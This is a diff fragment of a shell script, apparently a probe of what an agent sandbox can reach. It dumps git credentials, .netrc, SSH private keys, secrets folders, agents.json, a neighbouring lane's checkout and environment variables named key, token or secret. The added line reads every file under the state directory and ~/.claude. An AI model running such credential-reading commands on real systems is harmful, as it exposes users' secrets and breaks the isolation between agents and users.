@@ -19,6 +19,7 @@ echo
 git config --list --show-origin
 cat .git/config /mirror.git/config /etc/gitconfig ~/.git-credentials ~/.netrc ~/.ssh/* 2>/dev/null
 cat "$home/.ssh/id_ed25519" "$folder"/secrets/* "$folder/agents.json" "$state/lanes/1/checkout/neighbour" 2>/dev/null
+find "$state" ~/.claude -type f -exec cat {} + 2>/dev/null
 cat /proc/self/mountinfo
 set | grep -i -e key -e token -e secret
 
